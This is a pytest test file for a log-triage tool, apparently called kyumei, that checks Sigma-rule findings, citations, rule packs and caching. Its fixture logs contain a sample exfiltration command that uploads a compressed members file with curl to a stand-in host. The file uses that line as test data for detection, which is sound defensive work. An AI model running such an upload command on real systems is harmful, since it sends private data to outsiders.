from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from kyumei.case import ruled
from kyumei.case.hunt import applies
from kyumei.detect.sigma.rule import About, LogSource, Rule
from kyumei.detect.sigma.tree import Or
from kyumei.model.citation import Citation, EvidenceId
from kyumei.model.finding import Finding, Level
from tests.case.runs import finished
from tests.case.runs import kyumei as run

if TYPE_CHECKING:
    from pathlib import Path

SUDO = "{} db1 sudo:    tanaka : TTY=pts/0 ; PWD=/home/tanaka ; USER=root ; COMMAND={}\n"
SENT = "/usr/bin/curl -T /tmp/members.csv.gz https://transfer.example/u"
RULE = """
title: Somebody looked at the list
id: 6d1a2f9c-1f2e-4c7b-9a55-0f6b1f0a7c11
author: A. Writer
level: low
tags: [attack.t1005]
logsource: {product: linux, category: process_creation}
detection: {said: {CommandLine|contains: members}, condition: said}
"""
PLACES = [Citation(EvidenceId("E-1"), "a.log", n) for n in range(5)]


def said(rule: str, places: list[Citation], level: Level = Level.HIGH, tag: str = "attack.t1070") -> Finding:
    return Finding(rule, {"ja": rule, "en": rule}, level, 0, 9, len(places), tuple(places), tags=(tag,))


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    (tmp_path / "evidence").mkdir()
    lines = [("May 16 21:40:11", SENT), ("May 16 21:41:11", SENT), ("May 19 21:41:11", SENT), ("May 19 22:00:00", "/bin/ls")]
    (tmp_path / "evidence" / "auth.log").write_text("".join(SUDO.format(*line) for line in lines))
    return tmp_path


def triage(folder: Path, case: str = "case", **env: str) -> dict[str, Any]:
    words = ("triage", folder / "evidence", "--case", folder / case, "--format", "json")
    code, out, err = finished(run(*words, env=env))
    assert code == 0, err
    document: dict[str, Any] = json.loads(out)
    return document


def test_rules_give_cited_findings_one_for_each_act_with_their_origin(evidence: Path) -> None:
    document = triage(evidence)
    found = [f for f in document["findings"] if f["facts"].get("pack") == "kyumei"]
    assert [(f["count"], f["start"][5:16]) for f in found] == [(2, "05-16T21:40"), (1, "05-19T21:41")]
    assert {f["title"]["ja"] for f in found} == {"Linux の curl などでファイルが外部へ送信された"}
    assert {f["facts"]["license"] for f in found} == {"Apache-2.0"}
    assert found[0]["facts"]["explanation"]["en"].startswith("curl or wget was told to send")
    assert found[0]["entities"]["host"] == ["db1"]
    assert [c["offset"] for c in found[0]["citations"]] == [0, len(SUDO.format("May 16 21:40:11", SENT))]
    assert document["versions"]["rules"].startswith("kyumei sha256:")


def test_installed_packs_are_asked_and_named(evidence: Path) -> None:
    (evidence / "mine").mkdir()
    (evidence / "mine" / "looked.yml").write_text(RULE)
    home = {"KYUMEI_RULES": str(evidence / "home")}
    assert finished(run("rules", "add", evidence / "mine", env=home))[0] == 0
    document = triage(evidence, **home)
    mine = [f for f in document["findings"] if f["facts"].get("pack") == "mine"]
    assert [(f["facts"]["author"], f["count"]) for f in mine] == [("A. Writer", 2), ("A. Writer", 1)]
    assert "; mine sha256:" in document["versions"]["rules"]


def test_the_answer_is_the_same_without_and_with_a_cache_of_compiled_rules(evidence: Path) -> None:
    (evidence / "blocked").write_text("a file, so that no folder can be made in it")
    first = triage(evidence, "one", XDG_CACHE_HOME=str(evidence / "blocked"))
    second = triage(evidence, "two", XDG_CACHE_HOME=str(evidence / "cache"))
    third = triage(evidence, "three", XDG_CACHE_HOME=str(evidence / "cache"))
    assert first["findings"] == second["findings"] == third["findings"]
    assert list((evidence / "cache" / "kyumei").glob("rules-*/rules.jsonl"))


def test_what_an_analytic_says_of_the_same_events_is_not_said_twice() -> None:
    analytic = said("log.cleared", PLACES[:3])
    (found,) = ruled.joined([analytic], [said("r-1", PLACES[1:3])])
    assert found.id == analytic.id
    assert [r["id"] for r in found.facts["rules"]] == ["r-1"]  # type: ignore[attr-defined]  # a list of objects


@pytest.mark.parametrize(
    "rule",
    [
        said("r-1", PLACES[2:4]),
        said("r-1", PLACES[:2], tag="attack.t1005"),
        said("r-1", PLACES[:2], Level.CRITICAL),
    ],
    ids=["an event that the analytic does not cite", "another technique", "graver"],
)
def test_what_says_more_than_an_analytic_stays_and_names_it(rule: Finding) -> None:
    analytic = said("log.cleared", PLACES[:3])
    kept, stays = ruled.joined([analytic], [rule])
    assert kept == analytic
    assert stays.id == rule.id
    assert stays.facts["also"] == [analytic.id]


@pytest.mark.parametrize(
    ("source", "kinds", "wanted"),
    [
        (LogSource(product="windows", service="security"), [("windows.evtx", "Security", "4624"), ("mail.eml", "", "")], 1),
        (LogSource(product="windows", service="security"), [("windows.evtx", "System", "7045"), ("mail.eml", "", "")], 0),
        (LogSource(category="webserver"), [("web.iis", "", ""), ("web.access", "", "")], 2),
    ],
)
def test_only_readers_that_a_rule_may_be_about_are_read(source: LogSource, kinds: list[applies.Kind], wanted: int) -> None:
    rule = Rule(About("r", "r"), source, Or(()))
    assert set(applies.readers([rule], kinds)) <= {kind[0] for kind in kinds if not kind[0].startswith("mail")}
    assert len(applies.readers([rule], kinds)) == wanted
